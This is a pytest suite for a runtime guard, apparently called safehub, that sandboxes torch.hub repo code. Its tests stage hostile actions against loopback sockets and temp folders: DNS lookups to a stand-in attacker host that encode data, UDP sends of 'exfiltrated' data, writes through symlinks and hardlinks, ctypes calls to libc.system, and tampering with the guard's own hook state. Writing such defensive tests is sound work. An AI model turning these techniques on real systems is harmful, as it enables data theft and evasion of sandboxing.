"""The runtime guard on real parts: loopback sockets, real processes, real files.

Each rule has the attack (refused, where it happens and again at the end of the load) and
the legitimate case (allowed). The code under the guard stands for a repo's hubconf and
entrypoint; it swallows every exception, as careless or hostile code may.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from safehub.errors import PolicyError, RuntimeGuardError, SafehubError
from safehub.runtime import RuntimeGuard, RuntimeReport, RuntimeRules, _hook, suspended

REPO = "acme/models"


@dataclass
class Place:
    tree: Path
    tmp: Path
    hub: Path
    outside: Path


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    """A repo tree, a temp dir, torch's hub dir, and a folder outside all three."""
    tree, tmp, outside = tmp_path / "tree", tmp_path / "tmp", tmp_path / "outside"
    for p in (tree, tmp, outside):
        p.mkdir()
    (tree / "hubconf.py").write_text("dependencies = []\n")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
    monkeypatch.delitem(sys.modules, "torch.hub", raising=False)  # hub dir from TORCH_HOME
    return Place(tree, tmp, tmp_path / "torch" / "hub", outside)


@pytest.fixture
def port() -> Iterator[int]:
    """A listening TCP socket on 127.0.0.1 (the kernel completes connects to it)."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(64)
        yield server.getsockname()[1]


def attempt(action: Callable[[], Any]) -> BaseException | None:
    """Run ``action`` as a careless repo would: swallow whatever it raises."""
    try:
        action()
    except BaseException as e:  # a bare except in the repo's code
        return e
    return None


def guarded(place: Place, code: Callable[[], Any], mode: str = "observe",
            **keys: Any) -> tuple[RuntimeReport, RuntimeGuardError | None]:
    """Run ``code`` under a guard; return the report and the error the load ends with."""
    guard = RuntimeGuard(RuntimeRules(mode=mode, **keys), repo=REPO, tree=place.tree)  # type: ignore[arg-type]
    try:
        with guard.active():
            code()
    except RuntimeGuardError as e:
        return guard.report, e
    return guard.report, None


def connect(host: str, port: int) -> None:
    socket.create_connection((host, port), timeout=5).close()


def raw_connect(host: str, port: int) -> None:
    with socket.socket() as s:
        s.settimeout(5)
        s.connect((host, port))


def python(code: str = "pass") -> None:
    subprocess.run([sys.executable, "-c", code], check=True)


# -- network -----------------------------------------------------------------------------

def test_observe_without_network_key_records_connections(place: Place, port: int) -> None:
    results: list[BaseException | None] = []
    report, error = guarded(place, lambda: results.append(
        attempt(lambda: connect("localhost", port))))
    assert results == [None] and error is None
    assert "localhost" in report.lookups
    assert f"127.0.0.1:{port}" in report.hosts


def test_network_key_allows_its_hosts_and_names_the_address(place: Place, port: int) -> None:
    results: list[BaseException | None] = []
    report, error = guarded(place, lambda: results.append(
        attempt(lambda: connect("localhost", port))), network=("localhost",))
    assert results == [None] and error is None
    assert f"localhost:{port} (127.0.0.1)" in report.hosts


def test_network_key_refuses_other_hosts_where_it_happens(place: Place, port: int) -> None:
    seen: list[BaseException | None] = []
    report, error = guarded(place, lambda: seen.append(
        attempt(lambda: raw_connect("127.0.0.1", port))), network=("127.0.0.2",))
    assert isinstance(seen[0], RuntimeGuardError)  # raised by connect() itself
    assert error is seen[0]  # and the load fails with it although the code swallowed it
    assert error.action == "network" and error.key == "network" and error.repo == REPO
    assert f"tried to connect to 127.0.0.1:{port}" in error.message
    assert 'network = ["127.0.0.2"] does not allow it (runtime = "observe")' in error.message
    assert error.hint is not None and f'network = ["127.0.0.2", "127.0.0.1:{port}"]' in error.hint
    assert report.refused == [error]


def test_lookup_of_a_name_no_entry_allows_is_refused_before_dns(place: Place) -> None:
    # DNS itself carries data out (secret.attacker.example): refused before any query,
    # so the error is the guard's, not the resolver's.
    seen: list[BaseException | None] = []
    _, error = guarded(place, lambda: seen.append(
        attempt(lambda: socket.getaddrinfo("c2VjcmV0.attacker.invalid", 443))),
        network=("localhost",))
    assert isinstance(seen[0], RuntimeGuardError) and "look up c2vjcmv0.attacker.invalid" in str(
        seen[0])
    assert error is seen[0]


def test_enforce_allows_only_weights_hosts(place: Place, port: int) -> None:
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: connect("localhost", port)))     # a weights host
        seen.append(attempt(lambda: raw_connect("127.0.0.1", port)))  # resolved from it
        seen.append(attempt(lambda: raw_connect("127.0.0.2", port)))  # anything else

    _, error = guarded(place, code, "enforce", weights_hosts=("localhost",))
    assert seen[0] is None and seen[1] is None
    assert isinstance(seen[2], RuntimeGuardError) and error is seen[2]
    assert 'runtime = "enforce" and no network key allows it' in error.message


def test_enforce_without_weights_hosts_refuses_loopback(place: Place, port: int) -> None:
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: socket.getaddrinfo("localhost", port)))  # local: allowed
        seen.append(attempt(lambda: connect("localhost", port)))             # refused here

    _, error = guarded(place, code, "enforce")
    assert seen[0] is None
    assert isinstance(seen[1], RuntimeGuardError) and error is seen[1]


def test_host_port_entry_holds_the_port(place: Place, port: int) -> None:
    with socket.socket() as other:
        other.bind(("127.0.0.1", 0))
        other.listen(4)
        other_port = other.getsockname()[1]
        seen: list[BaseException | None] = []

        def code() -> None:
            seen.append(attempt(lambda: raw_connect("127.0.0.1", port)))
            seen.append(attempt(lambda: raw_connect("127.0.0.1", other_port)))

        _, error = guarded(place, code, "enforce", network=(f"127.0.0.1:{port}",))
    assert seen[0] is None
    assert isinstance(seen[1], RuntimeGuardError) and error is seen[1]


def test_udp_sendto_is_a_connection(place: Place, port: int) -> None:
    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"exfiltrated", ("127.0.0.1", port))

    seen: list[BaseException | None] = []
    _report, error = guarded(place, lambda: seen.append(attempt(send)), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    report2, error2 = guarded(place, send, "observe")
    assert error2 is None and f"127.0.0.1:{port}" in report2.hosts


# -- processes ---------------------------------------------------------------------------

def test_observe_without_subprocess_key_records_programs(place: Place) -> None:
    report, error = guarded(place, lambda: python("print('hi')"))
    assert error is None
    assert report.programs == [f"{sys.executable} -c 'print('\"'\"'hi'\"'\"')'"]


@pytest.mark.parametrize("start", ["subprocess", "os.system", "os.posix_spawn", "os.fork"])
def test_subprocess_false_refuses_every_way_to_start_a_process(place: Place, start: str,
                                                               tmp_path: Path) -> None:
    marker = tmp_path / "child-ran"
    code = f"open({str(marker)!r}, 'w').close()"

    def go() -> None:
        if start == "subprocess":
            python(code)
        elif start == "os.system":
            os.system(f"{sys.executable} -c \"{code}\"")
        elif start == "os.posix_spawn":
            os.waitpid(os.posix_spawn(sys.executable, [sys.executable, "-c", code],
                                      os.environ), 0)
        else:
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)

    seen: list[BaseException | None] = []
    report, error = guarded(place, lambda: seen.append(attempt(go)), subprocess=False)
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert error.action == "process" and error.key == "subprocess"
    assert "subprocess = false does not allow it" in error.message
    assert not marker.exists()
    assert len(report.programs) == 1


def test_multiprocessing_spawn_is_seen_too(place: Place) -> None:
    import multiprocessing

    def go() -> None:
        process = multiprocessing.get_context("spawn").Process(target=os.getpid)
        process.start()
        process.join()

    seen: list[BaseException | None] = []
    _report, error = guarded(place, lambda: seen.append(attempt(go)), subprocess=False)
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert "fork_exec" not in error.message and "python" in error.message


def test_program_list_allows_named_programs_only(place: Place, tmp_path: Path) -> None:
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: python()))                       # "python" is listed
        seen.append(attempt(lambda: subprocess.run(["true"], check=True)))
        seen.append(attempt(lambda: os.system("true")))              # sh -c true: true
        seen.append(attempt(lambda: os.system("true; true")))        # not simple: the shell

    _report, error = guarded(place, code, subprocess=("python", "true"))
    assert seen[:3] == [None, None, None]
    assert isinstance(seen[3], RuntimeGuardError) and error is seen[3]
    assert "tried to start sh (true; true)" in error.message
    assert error.hint is not None and 'subprocess = ["python", "true", "sh"]' in error.hint
    report2, error2 = guarded(place, lambda: os.system("true; true"), subprocess=("sh",))
    assert error2 is None and report2.programs == ["true; true"]


def test_program_name_does_not_allow_a_copy_the_code_could_write(place: Place) -> None:
    fake = place.tmp / "git"
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o755)
    seen: list[BaseException | None] = []
    _, error = guarded(place, lambda: seen.append(attempt(lambda: subprocess.run([str(fake)]))),
                       subprocess=("git",))
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert "in a place code can write" in error.message
    _, error2 = guarded(place, lambda: subprocess.run([str(fake)], check=True),
                        subprocess=(str(fake),))
    assert error2 is None


def test_enforce_refuses_processes_unless_a_key_allows(place: Place) -> None:
    _, error = guarded(place, lambda: attempt(python), "enforce")
    assert error is not None and 'runtime = "enforce" and no subprocess key' in error.message
    report, error2 = guarded(place, python, "enforce", subprocess=True)
    assert error2 is None and len(report.programs) == 1


# -- writes ------------------------------------------------------------------------------

def test_observe_without_writes_key_records_writes_outside_the_tree(place: Place) -> None:
    def code() -> None:
        (place.tree / "inside.txt").write_text("x")
        (place.outside / "outside.txt").write_text("x")

    report, error = guarded(place, code)
    assert error is None
    assert report.writes == [str((place.outside / "outside.txt").resolve())]


def test_writes_key_allows_its_paths_by_whole_components(place: Place) -> None:
    allowed = place.outside / "data"
    allowed.mkdir()
    sibling = place.outside / "data-evil"  # a string prefix of the allowed path, not below it
    sibling.mkdir()
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: (allowed / "a.txt").write_text("x")))
        seen.append(attempt(lambda: (sibling / "b.txt").write_text("x")))

    _, error = guarded(place, code, writes=(str(allowed),))
    assert seen[0] is None
    assert isinstance(seen[1], RuntimeGuardError) and error is seen[1]
    assert not (sibling / "b.txt").exists()
    assert f"tried to write {(sibling / 'b.txt').resolve()}" in error.message
    assert error.hint is not None and str(sibling.resolve()) in error.hint


def test_enforce_allows_tree_temp_hub_dir_and_devnull_only(place: Place) -> None:
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: (place.tree / "a").write_text("x")))
        seen.append(attempt(lambda: tempfile.NamedTemporaryFile().close()))
        seen.append(attempt(lambda: os.makedirs(place.hub / "checkpoints", exist_ok=True)))
        seen.append(attempt(lambda: open(os.devnull, "w").close()))
        seen.append(attempt(lambda: os.makedirs(place.outside, exist_ok=True)))  # exists: no-op
        seen.append(attempt(lambda: (place.outside / "x").write_text("x")))

    _report, error = guarded(place, code, "enforce")
    assert seen[:5] == [None] * 5
    assert isinstance(seen[5], RuntimeGuardError) and error is seen[5]
    assert "outside its tree, torch's hub dir and the temp dir" in error.message
    assert not (place.outside / "x").exists()


@pytest.mark.parametrize("change", ["rename-out", "remove", "rmtree", "symlink-follow",
                                    "hardlink-in", "chmod", "sqlite", "copyfile", "truncate"])
def test_every_kind_of_change_outside_is_refused(place: Place, change: str) -> None:
    victim = place.outside / "victim.txt"
    victim.write_text("precious")
    folder = place.outside / "folder"
    folder.mkdir()
    (folder / "f").write_text("precious")

    def go() -> None:
        if change == "rename-out":
            (place.tree / "payload").write_text("x")
            os.rename(place.tree / "payload", place.outside / "payload")
        elif change == "remove":
            os.remove(victim)
        elif change == "rmtree":
            shutil.rmtree(folder)
        elif change == "symlink-follow":
            os.symlink(victim, place.tree / "link")    # the link itself is inside: allowed
            with open(place.tree / "link", "w") as f:  # writing through it is not
                f.write("overwritten")
        elif change == "hardlink-in":
            os.link(victim, place.tree / "alias")     # the new name is inside the tree...
            with open(place.tree / "alias", "w") as f:  # ...but it is the victim's inode
                f.write("overwritten")
        elif change == "chmod":
            os.chmod(victim, 0o777)
        elif change == "sqlite":
            sqlite3.connect(place.outside / "db.sqlite").close()
        elif change == "copyfile":
            shutil.copyfile(place.tree / "hubconf.py", place.outside / "copy.py")
        else:
            os.truncate(victim, 0)

    seen: list[BaseException | None] = []
    _report, error = guarded(place, lambda: seen.append(attempt(go)), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0], seen
    assert error.action == "write" and error.key == "writes"
    assert victim.read_text() == "precious" and (folder / "f").read_text() == "precious"
    assert (victim.stat().st_mode & 0o777) != 0o777
    assert not (place.outside / "payload").exists() and not (place.outside / "copy.py").exists()
    assert not (place.outside / "db.sqlite").exists()


def test_environment_changes_are_recorded(place: Place,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SAFEHUB_TEST_VAR", "1")  # restored after the test

    def code() -> None:
        os.environ["HTTPS_PROXY"] = "http://127.0.0.1:9"
        del os.environ["HTTPS_PROXY"]
        del os.environ["SAFEHUB_TEST_VAR"]

    report, error = guarded(place, code, "enforce")
    assert error is None and report.environ == ["HTTPS_PROXY", "SAFEHUB_TEST_VAR"]


class Liar:
    """A path object that names one file to the operation and another to anyone after."""

    def __init__(self, first: Path, then: Path) -> None:
        self.answers = [str(first), str(then)]

    def __fspath__(self) -> str:
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]


class Disguised(str):
    """A str whose methods claim another path than its characters."""

    def __str__(self) -> str:
        return "/nowhere/inside"

    def __fspath__(self) -> str:
        return "/nowhere/inside"


def test_arguments_are_read_without_running_the_repos_code(place: Place) -> None:
    """Python-level events (sqlite3, shutil, subprocess) carry the objects the code passed;
    the C-level ones (open, os.*) carry what CPython converted. A path object's methods are
    never called by the guard: it could name one file to sqlite and another to the guard."""
    target = place.outside / "target.db"
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: sqlite3.connect(Liar(target, place.tree / "ok.db"))))
        seen.append(attempt(lambda: open(Disguised(target), "w").close()))

    guarded(place, code, "enforce")
    assert all(isinstance(e, RuntimeGuardError) for e in seen), seen
    # (3.10 passes sqlite3 the converted name: then it is refused by its name)
    assert ("called sqlite3.connect with <a Liar object>, which the guard does not read"
            in str(seen[0])) or f"tried to write {target.resolve()}" in str(seen[0])
    assert f"tried to write {target.resolve()}" in str(seen[1])  # by its characters
    assert not target.exists()
    # unrestricted: allowed, and recorded as what it is
    report, error = guarded(place, lambda: sqlite3.connect(Liar(target, target)).close())
    assert error is None and report.writes in (["<a Liar object> (sqlite3.connect)"],
                                               [str(target.resolve())])


def test_changes_inside_the_tree_are_allowed_and_not_listed(place: Place) -> None:
    def code() -> None:
        (place.tree / "a").write_text("x")
        os.rename(place.tree / "a", place.tree / "b")
        os.makedirs(place.tree / "d" / "e")
        shutil.rmtree(place.tree / "d")
        os.symlink("b", place.tree / "l")
        os.remove(place.tree / "l")

    report, error = guarded(place, code, "enforce")
    assert error is None and report.writes == [] and report.refused == []


# -- native code -------------------------------------------------------------------------

def _a_shared_library() -> Path:
    import _ctypes

    return Path(_ctypes.__file__)  # a library of the Python installation


def test_ctypes_libraries_are_recorded_in_observe(place: Place) -> None:
    library = _a_shared_library()
    report, error = guarded(place, lambda: ctypes.CDLL(str(library)))
    assert error is None and report.libraries == [str(library)]


def test_enforce_refuses_libraries_the_code_could_have_written(place: Place) -> None:
    copy = place.tree / "payload.so"
    shutil.copyfile(_a_shared_library(), copy)
    seen: list[BaseException | None] = []

    def code() -> None:
        seen.append(attempt(lambda: ctypes.CDLL(str(_a_shared_library()))))  # installed
        seen.append(attempt(lambda: ctypes.CDLL("libc.so.6")))               # the loader's
        seen.append(attempt(lambda: ctypes.CDLL(str(copy))))                 # the repo's

    report, error = guarded(place, code, "enforce")
    assert seen[:2] == [None, None]
    assert isinstance(seen[2], RuntimeGuardError) and error is seen[2]
    assert error.action == "library" and "in a place code can write" in error.message
    assert str(copy) in report.libraries


def test_enforce_refuses_risky_ctypes_functions(place: Place, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    seen: list[BaseException | None] = []

    def code() -> None:
        libc = ctypes.CDLL(None)
        seen.append(attempt(lambda: libc.system(f"touch {marker}".encode())))

    report, error = guarded(place, code, "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert not marker.exists()
    assert report.libraries == ["system"]


def test_compiled_module_imported_from_the_tree(place: Place) -> None:
    import importlib.machinery
    import importlib.util

    source = Path(importlib.util.find_spec("_bisect").origin)  # type: ignore[union-attr,arg-type]
    copy = place.tree / source.name
    shutil.copyfile(source, copy)

    def load() -> None:
        loader = importlib.machinery.ExtensionFileLoader("_bisect", str(copy))
        spec = importlib.util.spec_from_file_location("_bisect", copy, loader=loader)
        assert spec is not None
        importlib.util.module_from_spec(spec)

    report, error = guarded(place, load)
    assert error is None and any(str(copy) in entry for entry in report.libraries)
    seen: list[BaseException | None] = []
    _, error2 = guarded(place, lambda: seen.append(attempt(load)), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and error2 is seen[0]


# -- composition: threads, nesting, suspension, off --------------------------------------

def test_threads_started_under_the_guard_carry_it(place: Place) -> None:
    import _thread
    import threading

    seen: list[BaseException | None] = []
    done = threading.Event()

    def write() -> None:
        seen.append(attempt(lambda: (place.outside / "from-thread").write_text("x")))

    def raw() -> None:
        write()
        done.set()

    def code() -> None:
        thread = threading.Thread(target=write)
        thread.start()
        thread.join()
        _thread.start_new_thread(raw, ())
        done.wait(10)

    _, error = guarded(place, code, "enforce")
    assert len(seen) == 2 and all(isinstance(e, RuntimeGuardError) for e in seen)
    assert error is seen[0]
    assert not (place.outside / "from-thread").exists()


def test_threads_started_before_the_guard_are_not_guarded(place: Place) -> None:
    """A documented limit: a pool made before the load runs work outside the guard."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as pool:
        pool.submit(lambda: None).result()
        _, error = guarded(place, lambda: pool.submit(
            lambda: (place.outside / "via-pool").write_text("x")).result(), "enforce")
    assert error is None and (place.outside / "via-pool").exists()


def test_nested_guards_compose(place: Place, port: int) -> None:
    inner_tree = place.tmp / "inner"
    inner_tree.mkdir()
    outer = RuntimeGuard(RuntimeRules(mode="enforce"), repo="acme/outer", tree=place.tree)
    inner = RuntimeGuard(RuntimeRules(mode="observe", network=("127.0.0.1",)),
                         repo="acme/inner", tree=inner_tree)
    seen: dict[str, BaseException | None] = {}
    with pytest.raises(RuntimeGuardError) as info, outer.active():
        try:
            with inner.active():
                seen["inner connect"] = attempt(lambda: raw_connect("127.0.0.1", port))
                seen["inner write"] = attempt(lambda: (place.outside / "i").write_text("x"))
                seen["inner sh"] = attempt(lambda: os.system("true"))
        except BaseException as e:  # the outer repo's code swallows the nested failure
            seen["nested load"] = e
        seen["outer connect"] = attempt(lambda: raw_connect("127.0.0.1", port))
    assert seen["inner connect"] is None and seen["inner write"] is None
    assert seen["inner sh"] is None  # the inner rules have no subprocess key: observe allows
    assert isinstance(seen["outer connect"], RuntimeGuardError)
    assert seen["outer connect"].repo == "acme/outer"
    assert "nested load" not in seen  # nothing refused inside
    assert info.value is seen["outer connect"]
    # what the nested load did is part of the outer load's record too
    assert str((place.outside / "i").resolve()) in outer.report.writes
    assert "true" in outer.report.programs and inner.report.programs == ["true"]


def test_a_refusal_inside_a_nested_load_fails_the_outer_load(place: Place) -> None:
    inner = RuntimeGuard(RuntimeRules(mode="enforce"), repo="acme/inner", tree=place.tmp)
    outer = RuntimeGuard(RuntimeRules(mode="observe"), repo="acme/outer", tree=place.tree)
    with pytest.raises(RuntimeGuardError) as info, outer.active():
        try:
            with inner.active():
                attempt(lambda: (place.outside / "x").write_text("x"))
        except RuntimeGuardError:
            pass  # swallowed by the outer repo's code
    assert info.value.repo == "acme/inner" and outer.report.refused == [info.value]


@pytest.fixture
def as_safehub() -> Iterator[Callable[[Callable[[], Any]], Any]]:
    """Run a callable suspended, as safehub's own code does (a function of one of its
    modules, in that module): the only caller suspended() honours."""
    namespace = vars(_hook)
    exec(compile("def _test_own_work(f, route=True):\n"
                 "    def work():\n"
                 "        with suspended():\n"
                 "            return f()\n"
                 "    return routed(work)() if route else work()\n",
                 _hook.__file__, "exec"), namespace)
    yield namespace["_test_own_work"]
    del namespace["_test_own_work"]


def test_suspended_is_neither_recorded_nor_refused(place: Place, port: int,
                                                   as_safehub: Callable[..., Any]) -> None:
    namespace = vars(_hook)  # safehub's own work: code of a safehub module
    exec(compile("def _test_io(path, port):\n"
                 "    import socket\n"
                 "    with open(path, 'w') as f:\n"
                 "        f.write('x')\n"
                 "    with socket.socket() as s:\n"
                 "        s.settimeout(5)\n"
                 "        s.connect(('127.0.0.1', port))\n", _hook.__file__, "exec"), namespace)

    import functools

    own = functools.partial(namespace["_test_io"], str(place.outside / "safehub-own"), port)

    def code() -> None:
        as_safehub(own)
        attempt(lambda: (place.outside / "repo").write_text("x"))

    report, error = guarded(place, code, "enforce")
    assert (place.outside / "safehub-own").exists()
    assert error is not None and report.hosts == []
    assert [e.target for e in report.refused] == [str((place.outside / "repo").resolve())]


@pytest.mark.parametrize("mode", ["observe", "enforce"])
def test_safehubs_own_code_called_directly_by_the_repo_cannot_suspend(
    place: Place, mode: str, as_safehub: Callable[..., Any]
) -> None:
    """A confused deputy: the repo's code calls safehub's functions that pause the guard
    for their own work (a Hub of its own, a WeightsGuard of its own) instead of going
    through torch.hub, which safehub routes. Nothing is paused."""
    def code() -> None:
        attempt(lambda: as_safehub(lambda: (place.outside / "unseen").write_text("x"),
                                   route=False))

    report, error = guarded(place, code, mode)
    assert not (place.outside / "unseen").exists()
    assert error is not None and "called safehub directly" in error.message
    assert [e.action for e in report.refused] == ["guard"]


def test_a_routed_call_suspends_only_the_guard_it_was_called_under(
    place: Place, as_safehub: Callable[..., Any]
) -> None:
    """Inside a routed call, a nested guard (the nested load's) is not paused by it."""
    inner = RuntimeGuard(RuntimeRules(mode="enforce"), repo="acme/inner", tree=place.tmp)

    def nested() -> None:
        with inner.active():
            attempt(lambda: as_safehub(lambda: (place.outside / "x").write_text("x"),
                                       route=False))

    _report, error = guarded(place, lambda: as_safehub(nested), "observe")
    assert not (place.outside / "x").exists()
    assert error is not None and "called safehub directly" in error.message


@pytest.mark.parametrize("mode", ["observe", "enforce"])
def test_the_guarded_code_cannot_suspend_the_guard(place: Place, port: int, mode: str) -> None:
    def code() -> None:
        def inside() -> None:
            with suspended():
                (place.outside / "unseen").write_text("x")
        attempt(inside)  # swallowed, as a careless or hostile repo would

    report, error = guarded(place, code, mode)
    assert not (place.outside / "unseen").exists()
    assert error is not None and "only safehub's own code may pause" in error.message
    assert [e.action for e in report.refused] == ["guard"]


def test_suspended_outside_a_load_grants_nothing() -> None:
    with pytest.raises(RuntimeGuardError, match="only safehub's own code"), suspended():
        pass
    assert _hook._STATE.own == 0


def test_the_wrappers_do_not_hand_out_the_originals(place: Place) -> None:
    import _thread
    import threading

    guarded(place, lambda: None)  # installs the wrappers
    for function in (threading._start_new_thread, _thread.start_new_thread):  # type: ignore[attr-defined]
        assert not hasattr(function, "__wrapped__")


def test_off_does_nothing(place: Place, port: int) -> None:
    def code() -> None:
        (place.outside / "x").write_text("x")
        raw_connect("127.0.0.1", port)

    report, error = guarded(place, code, "off")
    assert error is None and report.to_json()["writes"] == [] and report.hosts == []


# -- the hook itself ---------------------------------------------------------------------

def test_hook_fails_closed_with_a_guard_error_only(place: Place,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(self: RuntimeGuard, action: object) -> None:
        raise KeyError("a bug in the guard")

    monkeypatch.setattr(RuntimeGuard, "decide", broken)
    seen: list[BaseException | None] = []
    _, error = guarded(place, lambda: seen.append(attempt(lambda: (place.tree / "x").write_text(
        "x"))))
    assert isinstance(seen[0], RuntimeGuardError) and error is seen[0]
    assert "could not decide on open" in error.message and "KeyError" in error.message


def test_tampering_with_the_thread_wrapper_fails_the_load(place: Place) -> None:
    import _thread
    import threading

    def code() -> None:
        threading._start_new_thread = _thread.start_new_thread  # type: ignore[attr-defined]

    try:
        _, error = guarded(place, code)
    finally:
        _hook.install()  # wrap it again for the other tests
    assert error is not None and error.action == "guard"
    assert "threading._start_new_thread was replaced" in error.message


def test_switching_the_hook_off_from_inside_is_caught_at_the_end(place: Place) -> None:
    def code() -> None:
        _hook._live = 0  # the hook's fast path now skips everything...
        (place.outside / "unseen").write_text("x")

    _, error = guarded(place, code, "enforce")
    assert error is not None and "the audit hook's state was edited" in error.message
    # ...and the count heals with the next guard
    seen: list[BaseException | None] = []
    _, _error2 = guarded(place, lambda: seen.append(
        attempt(lambda: (place.outside / "y").write_text("x"))), "enforce")
    assert isinstance(seen[0], RuntimeGuardError) and _hook._live == 0


def test_a_crash_after_a_swallowed_refusal_fails_with_the_refusal(place: Place) -> None:
    def code() -> None:
        weights = None
        try:
            raw_connect("127.0.0.1", 9)
            weights = {"w": 1}
        except:  # noqa: E722
            pass
        weights["w"]  # type: ignore[index]  # TypeError: the refusal is the root cause

    report, error = guarded(place, code, "enforce")
    assert error is not None and error is report.refused[0]
    assert isinstance(error.__context__, TypeError)


def test_keyboard_interrupt_is_not_turned_into_a_refusal(place: Place) -> None:
    def code() -> None:
        attempt(lambda: raw_connect("127.0.0.1", 9))
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        guarded(place, code, "enforce")


def test_idle_hook_does_no_work(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    guarded(place, lambda: None)  # installs the hook
    calls: list[str] = []
    monkeypatch.setattr(_hook, "_dispatch", lambda event, args: calls.append(event))
    (place.outside / "x").write_text("x")
    python()
    assert calls == [] and _hook._live == 0


def test_live_count_returns_to_zero_after_threads_end(place: Place) -> None:
    import threading

    def code() -> None:
        thread = threading.Thread(target=lambda: None)
        thread.start()
        thread.join()

    guarded(place, code)
    assert _hook._live == 0


def test_report_is_json_and_errors_are_safehub_errors(place: Place, port: int) -> None:
    def code() -> None:
        attempt(lambda: raw_connect("127.0.0.1", port))
        (place.outside / "w").write_text("x")

    report, error = guarded(place, code, network=())
    assert isinstance(error, SafehubError)
    data = json.loads(json.dumps(report.to_json()))
    assert data["repo"] == REPO and data["mode"] == "observe"
    assert data["refused"][0]["action"] == "network" and data["refused"][0]["key"] == "network"
    assert data["writes"] == [str((place.outside / "w").resolve())]


def test_report_lists_are_capped(place: Place) -> None:
    def code() -> None:
        for i in range(300):
            (place.outside / f"f{i}").write_text("x")

    report, error = guarded(place, code)
    assert error is None and len(report.writes) == 256 and report.truncated == 44


def test_bytecode_switch_is_restored_once_all_guards_end(place: Place,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    inside: list[bool] = []

    def code() -> None:
        inside.append(sys.dont_write_bytecode)
        guarded(place, lambda: inside.append(sys.dont_write_bytecode))
        inside.append(sys.dont_write_bytecode)

    guarded(place, code)
    assert inside == [True, True, True] and sys.dont_write_bytecode is False


def test_bad_rules_are_policy_errors() -> None:
    for keys in ({"network": ("http://x/",)}, {"writes": ("relative/path",)},
                 {"subprocess": ("rm -rf",)}, {"mode": "audit"}):
        with pytest.raises(PolicyError):
            RuntimeRules(source="/etc/safehub/policy.toml", **keys)


def test_the_repos_code_reached_during_a_pause_is_held_to_the_guard(
    place: Place, as_safehub: Callable[..., Any]
) -> None:
    """A hook of the repo's that safehub's paused work calls (here: the work is the
    repo's function itself) acts under the guard, as if there were no pause."""
    repo: dict[str, Any] = {}  # code of no module imported before the guard: the repo's
    exec("def hook(path):\n    with open(path, 'w') as f:\n        f.write('x')\n", repo)

    def code() -> None:
        attempt(lambda: as_safehub(lambda: repo["hook"](str(place.outside / "hooked"))))

    report, error = guarded(place, code, "enforce")
    assert not (place.outside / "hooked").exists()
    assert error is not None and [e.action for e in report.refused] == ["write"]
